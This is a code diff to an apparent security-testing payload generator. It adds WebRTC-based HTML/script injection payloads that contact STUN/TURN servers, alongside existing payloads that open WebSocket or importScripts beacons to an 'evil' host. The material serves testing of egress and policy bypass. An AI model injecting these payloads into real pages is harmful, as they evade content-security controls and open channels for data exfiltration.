@@ -199,6 +199,11 @@ export function payloads({ app, evil, stun, turn }) {
   family(
     'wire',
     html,
+    (id) => `<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:${stun(id)}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>`,
+    (id) => `<script>const p=new RTCPeerConnection({iceServers:[{urls:'turn:${turn(id)}?transport=tcp',username:'secret',credential:'x'}]});p.createDataChannel('x');p.setLocalDescription()</script>`,
+    (id) => `<iframe srcdoc="<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:${stun(id)}'}]});p.createDataChannel('x');p.setLocalDescription()</script>"></iframe>`,
+    (id) => `<iframe id=i></iframe><script>const p=new i.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:${stun(id)}'}]});p.createDataChannel('x');p.setLocalDescription()</script>`,
+    (id) => `<script>const p=new webkitRTCPeerConnection({iceServers:[{urls:'turn:${turn(id)}?transport=tcp',username:'a',credential:'b'}],iceTransportPolicy:'relay'});p.createDataChannel('x');p.setLocalDescription()</script>`,
     (id) => `<script>new WebSocket('${evil.replace('http', 'ws')}/hit/${id}')</script>`,
     (id) => `<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('${evil.replace('http', 'ws')}/hit/${id}')"])))</script>`,
     (id) => `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('${evil}/hit/${id}')"])))</script>`,
